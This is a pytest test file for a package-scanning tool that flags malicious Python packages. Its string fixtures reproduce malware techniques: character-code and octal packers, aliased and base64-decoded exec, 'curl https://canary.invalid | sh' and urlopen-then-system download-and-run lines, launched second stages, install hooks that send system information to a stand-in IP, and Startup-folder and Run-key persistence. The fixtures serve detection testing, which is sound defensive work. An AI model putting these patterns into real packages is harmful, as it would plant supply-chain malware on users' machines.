"""Techniques real malware uses, each as a harmless replica: character-code packers, aliases of exec.

Every payload here could at most print or write a canary file, and none is ever run: the tests only
scan the files. Each technique has benign look-alikes beside it that must stay quiet.
"""

from __future__ import annotations

import base64
from pathlib import Path

import pytest
from corpus import tree_of
from deps_support import make_wheel

from chainproof.deps.capabilities import Kind, capabilities
from chainproof.deps.files import TargetKind
from chainproof.deps.model import Finding, Severity
from chainproof.deps.rules.base import ScanContext
from chainproof.deps.rules.code import code_rules
from chainproof.deps.targets.archive import open_archive


def scan(tmp_path: Path, files: dict[str, str], kind: TargetKind = TargetKind.SDIST) -> list[Finding]:
    ctx = ScanContext(tree_of(tmp_path / "t", files, kind), (), {})
    return list(code_rules(ctx))


def worst(found: list[Finding], rule: str | None = None) -> Severity:
    return max((f.severity for f in found if rule is None or f.rule == rule), default=Severity.INFO)


def shifted(text: str) -> str:
    """`text` as a list of character codes each written as a shift plus a rest: `(12 << 3) + 8`."""
    return "[" + ", ".join(f"({ord(c) >> 3} << 3) + {ord(c) & 7}" for c in text) + "]"


CHR = "getattr(__builtins__, 'c' + 'hr')"


# --- character-code packers ------------------------------------------------------------------


def test_setup_script_spelling_its_strings_in_character_codes_is_high(tmp_path: Path) -> None:
    setup = (
        "import sys\nfrom setuptools import setup\n"
        f"if sys.platform == ''.join(map({CHR}, {shifted('linux')})):\n"
        f"    with open(''.join(map({CHR}, {shifted('canary.txt')})), 'w') as f:\n"
        f"        f.write(''.join(map({CHR}, {shifted('print(1)')})))\n"
        "setup(name='pkg')\n"
    )
    found = scan(tmp_path, {"pkg-1.0/setup.py": setup})
    assert worst(found, "code-obfuscated-strings") is Severity.HIGH
    assert "canary.txt" in next(f.message for f in found if f.rule == "code-obfuscated-strings")


def test_character_codes_folded_back_name_the_host_they_hide(tmp_path: Path) -> None:
    module = (
        "import urllib.request\n"
        f"URL = ''.join(chr(c) for c in {shifted('https://canary.invalid/x')})\n"
        "urllib.request.urlopen(URL, data=b'1')\n"
    )
    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
    assert any("canary.invalid" in f.message for f in found)
    assert worst(found, "code-obfuscated-strings") is Severity.HIGH


def test_chr_concatenation_is_a_hidden_string_too(tmp_path: Path) -> None:
    codes = " + ".join(f"chr({ord(c)})" for c in "echo 1")
    setup = f"import os\nos.system({codes})\n"
    found = scan(tmp_path, {"pkg-1.0/setup.py": setup})
    assert worst(found, "install-time-exec") >= Severity.MEDIUM
    assert worst(found) >= Severity.HIGH


@pytest.mark.parametrize(
    "benign",
    [
        # A separator or a short table of codes is not hidden text.
        "SEP = ''.join(map(chr, [44, 32]))\n",
        # Codes computed from run-time data: a cipher or a codec, not a constant string.
        "def rot(s):\n    return ''.join(chr(ord(c) + 1) for c in s)\n",
        # Joining literals is ordinary string building.
        "NAME = '-'.join(['a', 'b', 'c', 'd'])\n",
    ],
)
def test_benign_string_building_stays_quiet(tmp_path: Path, benign: str) -> None:
    found = scan(tmp_path, {"pkg-1.0/setup.py": benign + "from setuptools import setup\nsetup()\n"})
    assert worst(found) < Severity.MEDIUM, found


def test_a_module_table_of_character_codes_without_any_capability_is_quiet(tmp_path: Path) -> None:
    # Box-drawing tables and the like: text as codes, but nothing that acts on the machine.
    module = "".join(f"T{i} = ''.join(map(chr, {shifted('table')}))\n" for i in range(4))
    found = scan(tmp_path, {"pkg-1.0/pkg/tables.py": module})
    assert found == []


# --- runtime aliases -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "call",
    [
        "getattr(__builtins__, 'ex' + 'ec')(base64.b64decode(P))",
        "eval('exec')(base64.b64decode(P))",
        "getattr(__builtins__, 'cexe'[::-1])(base64.b64decode(P))",
        f"getattr(__builtins__, ''.join(map(chr, {shifted('exec')})))(base64.b64decode(P))",
    ],
)
def test_exec_reached_through_a_spelled_name_is_decoded_exec(tmp_path: Path, call: str) -> None:
    setup = f"import base64\nP = 'cHJpbnQoJ2NhbmFyeScp'\n{call}\n"
    found = scan(tmp_path, {"pkg-1.0/setup.py": setup})
    assert worst(found, "code-exec-decoded") is Severity.CRITICAL


# --- payloads in functions that run anyway ----------------------------------------------------

FETCH_RUN = (
    "import os, urllib.request\n"
    "def {name}():\n"
    "    data = urllib.request.urlopen('https://canary.invalid/p').read()\n"
    "    os.system(data)\n"
)


@pytest.mark.parametrize(
    "caller",
    [
        "fetch()\n",  # called on the next line
        "def main():\n    fetch()\nmain()\n",  # through another local function
        "import threading\nthreading.Thread(target=fetch).start()\n",  # started as a thread
        "import atexit\natexit.register(fetch)\n",  # registered to run at exit
        "class Boot:\n    def __init__(self):\n        fetch()\nBoot()\n",  # a class instantiated
        "try:\n    fetch()\nexcept Exception:\n    pass\n",  # inside a module-level try
    ],
)
def test_a_function_called_at_import_is_judged_as_import_time_code(tmp_path: Path, caller: str) -> None:
    module = FETCH_RUN.format(name="fetch") + caller
    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
    assert worst(found, "code-download-exec") is Severity.CRITICAL


def test_split_in_two_is_as_critical_as_inline(tmp_path: Path) -> None:
    inline = (
        "import os, urllib.request\nos.system(urllib.request.urlopen('https://canary.invalid/p').read())\n"
    )
    split = FETCH_RUN.format(name="go") + "go()\n"
    one = scan(tmp_path / "a", {"pkg-1.0/pkg/__init__.py": inline})
    two = scan(tmp_path / "b", {"pkg-1.0/pkg/__init__.py": split})
    assert worst(one) is worst(two) is Severity.CRITICAL


def test_a_function_nobody_calls_at_import_stays_a_call_time_finding(tmp_path: Path) -> None:
    module = FETCH_RUN.format(name="fetch") + "if __name__ == '__main__':\n    fetch()\n"
    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
    assert worst(found, "code-download-exec") is Severity.HIGH


def test_system_information_sent_by_a_function_called_at_import_is_high(tmp_path: Path) -> None:
    module = (
        "import subprocess, urllib.request, json\n"
        "def report():\n"
        "    info = {'user': subprocess.getoutput('whoami')}\n"
        "    urllib.request.urlopen('https://canary.invalid', data=json.dumps(info).encode())\n"
        "report()\n"
    )
    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
    assert worst(found) >= Severity.HIGH


# --- constant commands in branches that never run (the sphinx shape) --------------------------


def test_a_command_in_a_constantly_false_branch_is_not_import_time(tmp_path: Path) -> None:
    module = (
        "_in_development = False\n"
        "if _in_development:\n"
        "    import subprocess\n"
        "    ret = subprocess.run(\n"
        "        ('git', 'rev-parse', '--short', 'HEAD'),\n"
        "        capture_output=True,\n"
        "    ).stdout\n"
    )
    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module}, TargetKind.WHEEL)
    assert worst(found) < Severity.MEDIUM, found


def test_a_fixed_tuple_command_on_the_next_line_is_a_probe_not_a_payload(tmp_path: Path) -> None:
    # The same call in a branch that does run: a version probe, medium, not high.
    module = "import subprocess\nret = subprocess.run(\n    ('git', 'rev-parse', 'HEAD'),\n).stdout\n"
    found = scan(tmp_path, {"pkg/__init__.py": module}, TargetKind.WHEEL)
    assert worst(found, "code-exec-at-import") is Severity.MEDIUM


def test_a_flag_bound_twice_is_not_taken_for_a_constant(tmp_path: Path) -> None:
    module = (
        "import os\nDEV = False\nDEV = os.environ.get('X')\n"
        "if DEV:\n    os.system('curl https://canary.invalid | sh')\n"
    )
    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
    assert worst(found) is Severity.CRITICAL


# --- decoders a package defines for itself ----------------------------------------------------

CANARY_B64 = "b3BlbignY2FuYXJ5LnR4dCcsICd3Jyk="
"""`open('canary.txt', 'w')` in base64."""


@pytest.mark.parametrize(
    "decoder",
    [
        "def b64d(s):\n    raw = s.encode('ascii')\n    out = base64.b64decode(raw)\n"
        "    return out.decode('ascii')\n",
        "b64d = lambda s: base64.b64decode(s)\n",
        "def b64d(s: str) -> str:\n    '''Unpack.'''\n"
        "    return base64.b64decode(s.encode('utf8')).decode('utf8')\n",
    ],
)
def test_exec_of_a_local_decoder_is_decoded_exec(tmp_path: Path, decoder: str) -> None:
    module = f"import base64\n{decoder}exec(b64d('{CANARY_B64}'))\n"
    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
    assert worst(found, "code-exec-decoded") is Severity.CRITICAL


def test_a_helper_that_does_more_than_decode_is_not_a_decoder(tmp_path: Path) -> None:
    module = "import json\ndef load(s):\n    return json.loads(s)\nexec(load('{}'))\n"
    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
    assert worst(found, "code-exec-decoded") is Severity.INFO


# --- second stages written to a file and launched ---------------------------------------------

STAGE = "import os\nos.system('echo canary')\n"


@pytest.mark.parametrize(
    "launch",
    [
        "subprocess.Popen('stage.vbs', shell=True)",
        "subprocess.call(f'{sys.executable} stage.vbs')",
        "os.startfile(path)",
        "subprocess.Popen(['pythonw', path])",
    ],
)
def test_launching_a_file_just_written_is_execution(tmp_path: Path, launch: str) -> None:
    setup = (
        "import os, sys, subprocess, base64, tempfile\n"
        "path = os.path.join(tempfile.gettempdir(), 'stage.vbs')\n"
        f"with open(path, 'w') as f:\n    f.write({STAGE!r})\n"
        f"{launch}\n"
    )
    found = scan(tmp_path, {"pkg-1.0/setup.py": setup})
    assert worst(found, "code-dropped-exec") is Severity.CRITICAL


def test_a_launch_in_a_function_defined_above_the_write_is_found(tmp_path: Path) -> None:
    module = (
        "import subprocess, sys\n"
        "def go():\n    subprocess.call([sys.executable, 'stage.py'])\n"
        "with open('stage.py', 'w') as f:\n    f.write('print(1)')\n"
        "go()\n"
    )
    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
    assert worst(found, "code-dropped-exec") is Severity.CRITICAL


def test_the_written_text_is_analysed_as_code(tmp_path: Path) -> None:
    stage = "import os, urllib.request\nos.system(urllib.request.urlopen('https://canary.invalid').read())\n"
    module = f"with open('stage.py', 'w') as f:\n    f.write({stage!r})\n"
    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
    assert worst(found, "code-download-exec") >= Severity.HIGH


@pytest.mark.parametrize(
    "benign",
    [
        # A compiler probe: a C file written and handed to the compiler.
        "with open('probe.c', 'w') as f:\n    f.write('int main(void){return 0;}')\n"
        "subprocess.call(['cc', 'probe.c'])\n",
        # A configuration file written, then a tool run that reads it.
        "with open('conf.toml', 'w') as f:\n    f.write('[x]')\n"
        "subprocess.call(['tool', '--config', 'conf.toml'])\n",
        # A file written and a different program run.
        "with open('out.bin', 'w') as f:\n    f.write('x')\nsubprocess.call(['git', 'status'])\n",
    ],
)
def test_writing_inputs_for_other_programs_is_not_a_second_stage(tmp_path: Path, benign: str) -> None:
    found = scan(tmp_path, {"pkg-1.0/setup.py": "import subprocess\n" + benign})
    assert worst(found, "code-dropped-exec") is Severity.INFO


def test_a_build_tool_running_a_script_template_it_wrote_on_request_is_not_high(tmp_path: Path) -> None:
    # The mypyc shape: a plain template written, then run with the interpreter, inside a function.
    module = (
        "import subprocess, sys\n"
        "def build(setup_file):\n"
        "    with open(setup_file, 'w') as f:\n        f.write('from setuptools import setup\\nsetup()\\n')\n"
        "    subprocess.run([sys.executable, setup_file, 'build_ext'])\n"
    )
    found = scan(tmp_path, {"tool/__main__.py": module}, TargetKind.WHEEL)
    assert worst(found, "code-dropped-exec") is Severity.INFO


def test_a_variable_of_the_same_name_in_another_function_is_another_file(tmp_path: Path) -> None:
    module = (
        "import os\n"
        "def fetch(filename, data):\n    with open(filename, 'wb') as f:\n        f.write(data)\n"
        "def checkout(url, filename):\n    os.system('svn checkout %s %s' % (url, filename))\n"
    )
    found = scan(tmp_path, {"tool/index.py": module}, TargetKind.WHEEL)
    assert worst(found, "code-dropped-exec") is Severity.INFO


# --- only real test paths lower a severity ----------------------------------------------------


def test_a_package_folder_whose_name_is_no_identifier_is_package_code(tmp_path: Path) -> None:
    # `package_dir={'pkg_utils': 'pkg-utils'}` installs it; its code is not a test's.
    module = "import os\nos.system('curl https://canary.invalid/x | sh')\n"
    found = scan(tmp_path, {"pkg-1.0/pkg-utils/__init__.py": module, "pkg-1.0/setup.py": "x = 1\n"})
    assert worst(found, "code-exec-at-import") is Severity.CRITICAL


def test_real_test_folders_still_lower_a_severity(tmp_path: Path) -> None:
    module = "import os\nos.system('curl https://canary.invalid/x | sh')\n"
    found = scan(tmp_path, {"pkg-1.0/tests/test_net.py": module})
    assert worst(found) <= Severity.MEDIUM


def test_a_temporary_file_written_and_started_with_pythonw_is_a_second_stage(tmp_path: Path) -> None:
    module = (
        "from tempfile import NamedTemporaryFile as tmpfile\n"
        "from sys import executable\nfrom os import system\n"
        "def load():\n"
        "    tmp = tmpfile(delete=False)\n"
        "    tmp.write(b\"from urllib.request import urlopen;exec(urlopen('https://canary.invalid/raw').read())\")\n"
        "    tmp.close()\n"
        "    system(f\"start {executable.replace('.exe', 'w.exe')} {tmp.name}\")\n"
        "load()\n"
    )
    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
    assert worst(found, "code-dropped-exec") is Severity.CRITICAL
    assert worst(found, "code-download-exec") >= Severity.HIGH


# --- install commands that call helpers -------------------------------------------------------

INSTALL_WITH_HELPER = (
    "import socket, platform\n"
    "from setuptools import setup\nfrom setuptools.command.install import install\n"
    "def helper():\n{body}"
    "class PostInstall(install):\n    def run(self):\n        install.run(self)\n        helper()\n"
    "setup(name='pkg', cmdclass={{'install': PostInstall}})\n"
)


def test_an_install_command_calling_a_helper_that_sends_is_high(tmp_path: Path) -> None:
    body = (
        "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
        "    s.connect(('198.51.100.7', 9090))\n"
        "    s.send(platform.platform().encode())\n"
    )
    found = scan(tmp_path, {"pkg-1.0/setup.py": INSTALL_WITH_HELPER.format(body=body)})
    assert worst(found, "install-cmdclass") is Severity.HIGH


def test_an_install_command_calling_a_helper_that_prints_stays_low(tmp_path: Path) -> None:
    body = "    print('thanks for installing on', platform.platform())\n"
    found = scan(tmp_path, {"pkg-1.0/setup.py": INSTALL_WITH_HELPER.format(body=body)})
    assert worst(found, "install-cmdclass") is Severity.LOW


# --- code that runs when run as a program, not on import ---------------------------------------

SCRIPT = (
    "#!/usr/bin/env python3\nimport subprocess, sys\n"
    "def main():\n    subprocess.check_call(sys.argv[1:])\nmain()\n"
)


def test_a_packages_main_module_runs_when_run_not_on_import(tmp_path: Path) -> None:
    found = scan(tmp_path, {"tool/__main__.py": SCRIPT}, TargetKind.WHEEL)
    assert worst(found) < Severity.HIGH


def test_a_script_with_a_shebang_in_an_sdist_tree_runs_when_run(tmp_path: Path) -> None:
    found = scan(tmp_path, {"p-1.0/tools/ci/push_docs.py": SCRIPT})
    assert worst(found) < Severity.HIGH


@pytest.mark.parametrize("path", ["p-1.0/pkg/__init__.py", "pkg/helper.py"])
def test_a_shebang_does_not_excuse_package_code(tmp_path: Path, path: str) -> None:
    # An sdist package's __init__ and any installed module (a wheel) still run on import.
    kind = TargetKind.SDIST if path.startswith("p-1.0/") else TargetKind.WHEEL
    found = scan(tmp_path, {path: SCRIPT}, kind)
    assert worst(found, "code-exec-at-import") is Severity.HIGH


def test_a_fixed_probe_command_with_format_characters_is_medium(tmp_path: Path) -> None:
    # The matplotlib/scikit-image shapes: literal lists whose words carry %, {} or commas.
    module = (
        "import subprocess\n"
        "def probe():\n"
        "    return subprocess.check_output(['git', 'log', '-1', '--format=\"%h %aI\"'])\n"
        "VERSION = probe()\n"
    )
    found = scan(tmp_path, {"pkg/__init__.py": module}, TargetKind.WHEEL)
    assert worst(found, "code-exec-at-import") is Severity.MEDIUM


def test_a_second_stage_is_an_exec_capability_for_release_diffs(tmp_path: Path) -> None:
    module = (
        "import subprocess\nwith open('stage.py', 'w') as f:\n    f.write('print(1)')\n"
        "subprocess.call(['python', 'stage.py'])\n"
    )
    caps = capabilities(open_archive(make_wheel(tmp_path, "pkg", "1.0", {"pkg/__init__.py": module})))
    dropped = [c for c in caps if c.kind is Kind.EXEC and c.detail.startswith("runs a file it wrote")]
    assert [c.strong for c in dropped] == [True]


def test_a_setup_script_with_a_shebang_still_runs_at_install(tmp_path: Path) -> None:
    setup = "#!/usr/bin/env python\nimport requests\nrequests.get('http://198.51.100.7:1122/stage.txt')\n"
    found = scan(tmp_path, {"p-1.0/setup.py": setup})
    assert worst(found, "code-network-at-import") is Severity.HIGH


# --- builtins and modules reached through eval ----------------------------------------------


def _escaped(text: str) -> str:
    """`text` as a Python string literal of octal escapes, as packers write names."""
    return '"' + "".join(f"\\{ord(c):03o}" for c in text) + '"'


def test_a_packer_reaching_exec_and_a_decoder_through_eval_is_caught(tmp_path: Path) -> None:
    payload = base64.b64encode(b"open('canary.txt', 'w').write('1')").decode()
    module = (
        f"_a = eval({_escaped('eval')}); _c = _a({_escaped('compile')})\n"
        f"_b64, _x = _a(_c({_escaped(chr(95) * 2 + 'import__(' + repr('base64') + ')')}, '', _a.__name__)), "
        f"_a(_c({_escaped('exec')}, '', _a.__name__))\n"
        f"_x(_b64.b64decode('{payload}'))\n"
    )
    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
    assert worst(found, "code-obfuscated-strings") >= Severity.HIGH
    assert worst(found, "code-exec-decoded") is Severity.CRITICAL  # the aliases resolve: exec(base64...)


def test_names_bound_in_one_tuple_resolve_like_names_bound_one_by_one(tmp_path: Path) -> None:
    payload = base64.b64encode(b"print('hello')").decode()
    module = f"import base64\nrun, dec = exec, base64.b64decode\nrun(dec('{payload}'))\n"
    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
    assert worst(found, "code-exec-decoded") is Severity.CRITICAL


@pytest.mark.parametrize(
    "module",
    [
        "TOTAL = eval('1 + 2')\n",  # arithmetic, not a name
        "import math\nPI = eval('math.pi')\n",  # a constant of an untracked module
        "def parse(expression):\n    return eval(expression)\n",  # the caller's text
        "a, b = 1, 2\nx, y = [a, b]\n",
    ],
)
def test_eval_of_ordinary_text_stays_quiet(tmp_path: Path, module: str) -> None:
    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
    assert worst(found) < Severity.HIGH
    assert not [f for f in found if f.rule == "code-obfuscated-strings"]


# --- a setup script calling into the package's own modules -----------------------------------

_HELPER = "import os\n\ndef fetch():\n    os.system('curl -s http://canary.invalid/s | sh')\n"
_SETUP_CALLING = (
    "from setuptools import setup\nfrom setuptools.command.install import install\n"
    "from pkg.helpers import fetch\n\n"
    "class Install(install):\n    def run(self):\n        fetch()\n        install.run(self)\n\n"
    "setup(name='pkg', cmdclass={'install': Install})\n"
)


@pytest.mark.parametrize(
    "setup",
    [
        _SETUP_CALLING,
        "import setuptools\nimport pkg.helpers as h\nh.fetch()\nsetuptools.setup(name='pkg')\n",
        "from setuptools import setup\nfrom pkg.helpers import fetch as f\nf()\nsetup(name='pkg')\n",
    ],
)
def test_a_function_the_setup_script_calls_in_another_file_runs_at_install(
    tmp_path: Path, setup: str
) -> None:
    found = scan(
        tmp_path,
        {"pkg-1.0/setup.py": setup, "pkg-1.0/pkg/__init__.py": "", "pkg-1.0/pkg/helpers.py": _HELPER},
    )
    at_install = [f for f in found if f.path == "pkg-1.0/pkg/helpers.py"]
    assert worst(at_install) >= Severity.HIGH, found


def test_the_same_function_nobody_calls_at_install_is_not_install_code(tmp_path: Path) -> None:
    quiet_setup = "from setuptools import setup\nfrom pkg.helpers import fetch\nsetup(name='pkg')\n"
    found = scan(tmp_path, {"pkg-1.0/setup.py": quiet_setup, "pkg-1.0/pkg/helpers.py": _HELPER})
    assert worst([f for f in found if f.path == "pkg-1.0/pkg/helpers.py"]) < Severity.HIGH
    # A version helper called by the setup script reads a file: nothing to report.
    version = "def get_version():\n    return open('pkg/VERSION').read().strip()\n"
    setup = (
        "from setuptools import setup\nfrom pkg.version import get_version\nsetup(version=get_version())\n"
    )
    found = scan(tmp_path / "v", {"pkg-1.0/setup.py": setup, "pkg-1.0/pkg/version.py": version})
    assert worst(found) < Severity.MEDIUM


# --- persistence: placed where the system starts it ------------------------------------------

_TO_STARTUP = (
    "import os, shutil\n"
    "def persist(src):\n"
    "    dst = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs',"
    " 'Startup', 'canary.txt')\n"
    "    shutil.copy(src, dst)\n"
)


@pytest.mark.parametrize(
    ("module", "expected"),
    [
        (_TO_STARTUP + "persist(__file__)\n", Severity.HIGH),  # at import
        (_TO_STARTUP, Severity.MEDIUM),  # a function alone: a tool's own start-at-login switch
        (
            "import urllib.request\n"
            + _TO_STARTUP
            + "urllib.request.urlretrieve('https://canary.invalid/c', 'c')\n"
            "persist('c')\n",
            Severity.CRITICAL,
        ),
        (
            "import winreg\nk = winreg.CreateKey(winreg.HKEY_CURRENT_USER, "
            "r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\n"
            "winreg.SetValueEx(k, 'canary', 0, winreg.REG_SZ, 'canary.txt')\n",
            Severity.HIGH,
        ),
    ],
)
def test_something_placed_where_the_system_starts_it_is_persistence(
    tmp_path: Path, module: str, expected: Severity
) -> None:
    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
    assert worst(found, "code-persistence") is expected, found


def test_start_up_places_named_in_prose_are_not_persistence(tmp_path: Path) -> None:
    module = (
        '"""Put a shortcut in shell:startup (or Programs\\\\Startup) to start the tool at login."""\n'
        "HELP = 'see crontab(5) and ~/.config/autostart'\n"
        "def path_of(name):\n    return name.upper()\n"
    )
    assert not [
        f for f in scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module}) if f.rule == "code-persistence"
    ]
